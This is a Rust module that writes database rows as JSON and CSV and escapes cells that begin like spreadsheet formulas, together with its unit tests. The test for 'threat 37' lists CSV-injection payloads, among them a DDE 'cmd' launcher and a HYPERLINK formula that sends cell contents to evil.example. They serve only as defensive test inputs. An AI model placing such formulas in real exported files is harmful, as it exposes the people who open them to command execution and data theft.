//! Rows as they are handed out: as JSON, and as CSV that no spreadsheet takes for formulas.

use std::borrow::Cow;

use serde::ser::{Serialize, SerializeMap, Serializer};
use serde_json::Value;

use super::Table;

/// What a spreadsheet takes for the beginning of a formula, or skips before one; some take the full-width forms too.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A row: its values, in the order of [`Table::exported`].
#[derive(Debug, Clone, PartialEq)]
pub struct HeldRow(pub Vec<Value>);

impl HeldRow {
    /// The row that an array of JSON holds.
    pub fn of_json(text: &str) -> Option<Self> {
        serde_json::from_str(text).ok().map(Self)
    }
}

/// A row with the titles of its columns.
struct Titled<'a>(&'a [String], &'a HeldRow);

impl Serialize for Titled<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let Self(titles, HeldRow(values)) = self;
        let mut map = serializer.serialize_map(Some(values.len()))?;
        for (title, value) in titles.iter().zip(values) {
            map.serialize_entry(title, value)?;
        }
        map.end()
    }
}

fn titles(table: &Table) -> Vec<String> {
    table.exported().map(super::Column::title).collect()
}

/// Rows as members of an array of JSON, each on a line; `is_first` says whether none was written before.
pub fn json_rows(table: &Table, rows: &[HeldRow], is_first: bool) -> Vec<u8> {
    let titles = titles(table);
    let mut text = Vec::new();
    for (number, row) in rows.iter().enumerate() {
        let separator: &[u8] = if is_first && number == 0 { b"\n" } else { b",\n" };
        text.extend_from_slice(separator);
        // Values of JSON under names: there is nothing that could not be written.
        text.extend(serde_json::to_vec(&Titled(&titles, row)).unwrap_or_default());
    }
    text
}

/// The first line of a table in CSV.
pub fn csv_header(table: &Table) -> Vec<u8> {
    csv([titles(table).iter().map(String::as_str)])
}

/// Rows as lines of CSV (RFC 4180).
///
/// A text that begins as a formula does has an apostrophe before it, so that a spreadsheet shows it and does nothing.
pub fn csv_rows(rows: &[HeldRow]) -> Vec<u8> {
    csv(rows.iter().map(|HeldRow(values)| values.iter().map(cell)))
}

fn csv<R, C>(rows: impl IntoIterator<Item = R>) -> Vec<u8>
where
    R: IntoIterator<Item = C>,
    C: AsRef<[u8]>,
{
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .flexible(true)
        .from_writer(Vec::new());
    for row in rows {
        // Into memory, and of whatever length: there is nothing that could fail.
        let _ = writer.write_record(row);
    }
    writer.into_inner().unwrap_or_default()
}

fn cell(value: &Value) -> Cell<'_> {
    Cell(match value {
        Value::Null => Cow::Borrowed(""),
        Value::String(text) if text.starts_with(FORMULA) => Cow::Owned(format!("'{text}")),
        Value::String(text) => Cow::Borrowed(text),
        other => Cow::Owned(other.to_string()),
    })
}

struct Cell<'a>(Cow<'a, str>);

impl AsRef<[u8]> for Cell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::personal::TABLES;

    fn table(name: &str) -> &'static Table {
        TABLES.iter().find(|table| table.name == name).unwrap()
    }

    fn line(values: Value) -> String {
        let Value::Array(values) = values else { panic!() };
        String::from_utf8(csv_rows(&[HeldRow(values)])).unwrap()
    }

    #[test]
    fn threat_37_a_text_that_begins_as_a_formula_does_is_guarded() {
        for text in [
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1)",
            "\t=1",
            "＝1",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        ] {
            let written = line(json!([text, "x"]));
            let read = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(written.as_bytes())
                .records()
                .next()
                .unwrap()
                .unwrap();
            assert_eq!(&read[0], format!("'{text}"), "{written}");
            assert_eq!(&read[1], "x");
        }
    }

    #[test]
    fn values_are_written_so_that_they_can_be_read_again() {
        assert_eq!(
            line(json!(["a,b", "c\"d", "e\r\nf"])),
            "\"a,b\",\"c\"\"d\",\"e\r\nf\"\r\n"
        );
        assert_eq!(
            line(json!([null, true, -7, 0.25, ["user"], "学习"])),
            ",true,-7,0.25,\"[\"\"user\"\"]\",学习\r\n"
        );
    }

    #[test]
    fn rows_have_the_titles_of_their_columns_in_their_order() {
        let heads = table("progress_heads");
        assert_eq!(csv_header(heads), b"userId,revision,position\r\n");
        let row = HeldRow::of_json("[\"u\",7,9]").unwrap();
        let first = json_rows(heads, &[row.clone(), row.clone()], true);
        let line = "\n{\"userId\":\"u\",\"revision\":7,\"position\":9}";
        assert_eq!(String::from_utf8(first).unwrap(), format!("{line},{line}"));
        let next = json_rows(heads, &[row], false);
        assert_eq!(String::from_utf8(next).unwrap(), format!(",{line}"));
    }
}
